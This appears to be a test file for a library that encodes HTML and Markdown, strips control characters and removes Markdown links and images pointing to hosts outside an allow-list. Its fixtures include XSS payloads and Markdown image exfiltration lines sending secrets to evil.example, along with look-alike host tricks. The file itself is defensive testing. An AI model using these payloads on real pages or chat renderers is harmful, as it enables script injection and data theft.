import { expect } from 'chai';
import MarkdownIt from 'markdown-it';
import { encodeHtml, encodeHtmlAttribute, encodeMarkdown, sanitizeMarkdownLinks, stripControlCharacters } from '../../src/index.js';

/** The worst-case renderer: raw HTML on, bare URLs auto-linked (fuzzy bare domains off, as documented). */
function renderer(): MarkdownIt {
  const md = new MarkdownIt({ html: true, linkify: true });
  md.linkify.set({ fuzzyLink: false, fuzzyEmail: false });
  return md;
}
const md = renderer();

/** Decodes the entities the encoders and markdown-it produce. */
function decodeHtml(html: string): string {
  return html.replace(/&(#x[0-9A-Fa-f]+|#\d+|amp|lt|gt|quot|apos);/g, (_, e: string) => {
    if (e.startsWith('#x')) return String.fromCodePoint(Number.parseInt(e.slice(2), 16));
    if (e.startsWith('#')) return String.fromCodePoint(Number(e.slice(1)));
    return { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }[e] as string;
  });
}

/** Every href and src attribute in rendered HTML. */
function urlsIn(html: string): string[] {
  return [...html.matchAll(/\s(?:href|src)="([^"]*)"/g)].map((m) => decodeHtml(m[1] as string));
}

/** A deterministic pseudo-random generator (mulberry32). */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const XSS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'; alert(1); //",
  '<a href="javascript:alert(1)">x</a>',
  '&lt;script&gt;',
  '</textarea><iframe src=//evil.example>',
];

describe('encoders (R-ACT-OUT-3)', () => {
  describe(encodeHtml.name, () => {
    it('R-ACT-OUT-3: escapes the five OWASP characters', () => {
      expect(encodeHtml(`<a href="x">'&'</a>`)).to.equal('&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;');
    });

    it('R-ACT-OUT-3: leaves no markup in script-injection payloads, and round-trips', () => {
      for (const payload of XSS) {
        const encoded = encodeHtml(payload);
        expect(encoded).to.not.match(/[<>"']/);
        expect(decodeHtml(encoded)).to.equal(payload);
      }
    });

    it('R-ACT-OUT-3: round-trips arbitrary Unicode text', () => {
      const text = 'Zoë 👍 \u202E & < > " \' / \\ `';
      expect(decodeHtml(encodeHtml(text))).to.equal(text);
    });
  });

  describe(encodeHtmlAttribute.name, () => {
    it('R-ACT-OUT-3: leaves only letters, digits and entities for ASCII input', () => {
      for (const payload of [...XSS, 'x onfocus=alert(1) autofocus', 'a`b=c']) {
        const encoded = encodeHtmlAttribute(payload);
        expect(encoded.replace(/&#x[0-9A-F]+;/g, '')).to.match(/^[A-Za-z0-9]*$/);
        expect(decodeHtml(encoded)).to.equal(payload);
      }
    });

    it('R-ACT-OUT-3: keeps letters above U+00FF and replaces NUL', () => {
      expect(encodeHtmlAttribute('Ωé\u0000')).to.equal('Ω&#xE9;&#xFFFD;');
    });
  });

  describe(encodeMarkdown.name, () => {
    const attacks = [
      '![x](https://evil.example/p.png?d=secret)',
      '[click](javascript:alert(1))',
      '<img src=https://evil.example/p.png>',
      '<script>alert(1)</script>',
      '<https://evil.example/x>',
      'visit https://evil.example/x or www.evil.example or jane@evil.example',
      '[ref]: https://evil.example/p.png\n\n![a][ref]',
      '# Heading\n> quote\n- item\n1. item\n| a | b |\n|---|---|\n***bold***\n`code`\n```\nfence\n```',
      '<!-- hidden --><div onclick="x">',
      '\\![x](https://evil.example/p.png)',
      '&#33;[x](https://evil.example/p.png)',
    ];

    it('R-ACT-OUT-3: a renderer with HTML and linkify on makes no link, image or tag from it', () => {
      for (const attack of attacks) {
        const html = md.render(encodeMarkdown(attack));
        expect(html, attack).to.not.match(/<(?:a|img|script|svg|iframe|div|h1|blockquote|ul|ol|li|table|strong|em|code|pre)[\s>]/);
        expect(urlsIn(html), attack).to.deep.equal([]);
      }
    });

    it('R-ACT-OUT-3: the rendered text is exactly the original (random round trip)', () => {
      const next = random(42);
      const alphabet = 'ab1 !"#$%&\'()*+,-./:;<=>?@[\\]^_`{|}~éß👍';
      const chars = [...alphabet];
      for (let n = 0; n < 500; n++) {
        let text = 'x';
        const length = 1 + Math.floor(next() * 40);
        for (let i = 0; i < length; i++) text += chars[Math.floor(next() * chars.length)];
        text += 'x';
        expect(decodeHtml(md.renderInline(encodeMarkdown(text))), text).to.equal(text);
      }
    });
  });

  describe(sanitizeMarkdownLinks.name, () => {
    const options = { allowedHosts: ['docs.example.com', '*.cdn.example.com'] };
    /** The oracle: what the browser would fetch, by the WHATWG parser. */
    const allowed = (url: string): boolean => {
      const parsed = URL.canParse(url) ? new URL(url) : undefined;
      return (
        parsed !== undefined &&
        parsed.protocol === 'https:' &&
        parsed.username === '' &&
        parsed.password === '' &&
        (parsed.hostname === 'docs.example.com' || /^[a-z0-9-]+\.cdn\.example\.com$/.test(parsed.hostname))
      );
    };

    it('R-ACT-OUT-3: keeps allowed links and the Markdown around them', () => {
      const text = '## Steps\n\n1. Read [the guide](https://docs.example.com/guide "Guide").\n2. **Then** restart.';
      expect(sanitizeMarkdownLinks(text, options)).to.equal(text);
    });

    it('R-ACT-OUT-3: drops an exfiltration image, keeping its alt text', () => {
      const out = sanitizeMarkdownLinks('Done! ![status](https://evil.example/p.png?d=SSN-123-45-6789)', options);
      expect(out).to.equal('Done! status');
    });

    it('R-ACT-OUT-3: drops images even to allowed hosts unless allowImages is set', () => {
      const text = '![logo](https://img.cdn.example.com/logo.png)';
      expect(sanitizeMarkdownLinks(text, options)).to.equal('logo');
      expect(sanitizeMarkdownLinks(text, { ...options, allowImages: true })).to.equal(text);
    });

    it('R-ACT-OUT-3: drops javascript:, data: and relative links', () => {
      for (const href of ['javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'data:text/html;base64,PHNjcmlwdD4=', '/admin', '//evil.example/x', 'https://user@docs.example.com/']) {
        expect(sanitizeMarkdownLinks(`[x](${href})`, options), href).to.equal('x');
      }
    });

    it('R-ACT-OUT-3: neutralises reference definitions, autolinks, raw HTML and bare URLs to other hosts', () => {
      const text = [
        '[r]: https://evil.example/p.png',
        '![a][r]',
        '<https://evil.example/x>',
        '<img src="https://evil.example/p.png"><script>alert(1)</script>',
        'see https://evil.example/x?d=1 and www.evil.example and https://docs.example.com/ok',
      ].join('\n\n');
      const html = md.render(sanitizeMarkdownLinks(text, options));
      expect(html).to.not.match(/<(?:img|script)[\s>]/);
      expect(urlsIn(html)).to.deep.equal(['https://docs.example.com/ok']);
    });

    it('R-ACT-OUT-3: does not trust look-alike hosts, entity tricks or user-info', () => {
      for (const href of [
        'https://docs.example.com.evil.example/',
        'https://docs.ex\u0430mple.com/',
        'https://evil.example&#47;@docs.example.com',
        'https://docs.example.com&#64;evil.example/',
        'https://evil.example\\@docs.example.com',
        'https://docs.example.com@evil.example/',
      ]) {
        const html = md.render(sanitizeMarkdownLinks(`[x](${href}) ![y](${href})`, options));
        expect(urlsIn(html).every(allowed), href).to.equal(true);
      }
    });

    it('R-ACT-OUT-3: leaves top-level fenced code alone', () => {
      const text = 'Example:\n\n```html\n<a href="https://evil.example/">x</a> ![i](https://evil.example/i.png)\n```\n';
      expect(sanitizeMarkdownLinks(text, options)).to.equal(text);
    });

    it('R-ACT-OUT-3: is not fooled by a fence a renderer closes elsewhere', () => {
      // The indented fence opens a code block that the col-0 fence closes; the image after it renders.
      const text = '  ```\nfoo\n```\n![x](https://evil.example/p.png?d=secret)\n```\n';
      expect(urlsIn(md.render(sanitizeMarkdownLinks(text, options)))).to.deep.equal([]);
      const list = '- item\n\n  ```\n  code\n![x](https://evil.example/p.png?d=secret)\n```\n';
      expect(urlsIn(md.render(sanitizeMarkdownLinks(list, options)))).to.deep.equal([]);
      const info = '```\ncode\n```js not a close\n![x](https://evil.example/p.png)\n```\n![y](https://evil.example/q.png)\n';
      expect(urlsIn(md.render(sanitizeMarkdownLinks(info, options)))).to.deep.equal([]);
    });

    it('R-ACT-OUT-3: no random mix of link syntax yields a link or image to another host', () => {
      const next = random(7);
      const tokens = [
        '[', ']', '(', ')', '!', '<', '>', ' ', '\n', '\n\n', '`', '```', '~~~', '  ', '    ', '\t', '\\', '"', "'", ':', '*', '-', '_', '|', '&', ';', '#', '@',
        '> ', '1. ', '\n\n```\n', '\n```\n', '\n\n~~~\n', '\n\n````js\n', 'https://evil.example/x', 'https://docs.example.com/y',
        'https://a.cdn.example.com/i.png', 'www.evil.example', 'http://evil.example', 'ftp://evil.example/f', 'HTTPS://EVIL.EXAMPLE/',
        'https://docs.example.com.evil.example/', 'DOCS.EXAMPLE.COM', '%2F', 'é', '<img src=https://evil.example/i>', '<a href=https://evil.example>',
        'javascript:alert(1)', '&#41;', '&#93;', 'img', 'a', '](https://evil.example/p.png)', '](https://docs.example.com/d)',
        '](https://DOCS.example.com/q)', ']: https://evil.example/r', '![', '](', '<https://evil.example/z>',
      ];
      for (let n = 0; n < 5000; n++) {
        let text = '';
        const length = 1 + Math.floor(next() * 30);
        for (let i = 0; i < length; i++) text += tokens[Math.floor(next() * tokens.length)];
        const html = md.render(sanitizeMarkdownLinks(text, options));
        const bad = urlsIn(html).filter((u) => !allowed(u));
        expect(bad, JSON.stringify(text)).to.deep.equal([]);
        expect(/<(?:img|script)[\s>]/.test(html), JSON.stringify(text)).to.equal(false);
      }
    });

    it('refuses invalid options with CONFIG_INVALID', () => {
      expect(() => sanitizeMarkdownLinks('x', { allowedHosts: ['Not A Host'] })).to.throw().with.property('code', 'CONFIG_INVALID');
    });
  });

  describe(stripControlCharacters.name, () => {
    it('R-ACT-OUT-1: removes controls, bidi overrides, zero-width and tag characters; keeps emoji and line breaks', () => {
      const text = 'pay\u202Eusd\u200B 01\u0007\u009B\t\r\n\u{E0049}\u{E0047}\uFEFF 👨‍👩‍👧 ok';
      expect(stripControlCharacters(text)).to.equal('payusd 01\t\r\n 👨‍👩‍👧 ok');
    });

    it('R-ACT-OUT-1: can drop line breaks too', () => {
      expect(stripControlCharacters('a\nb\tc', { keepWhitespace: false })).to.equal('abc');
    });
  });
});
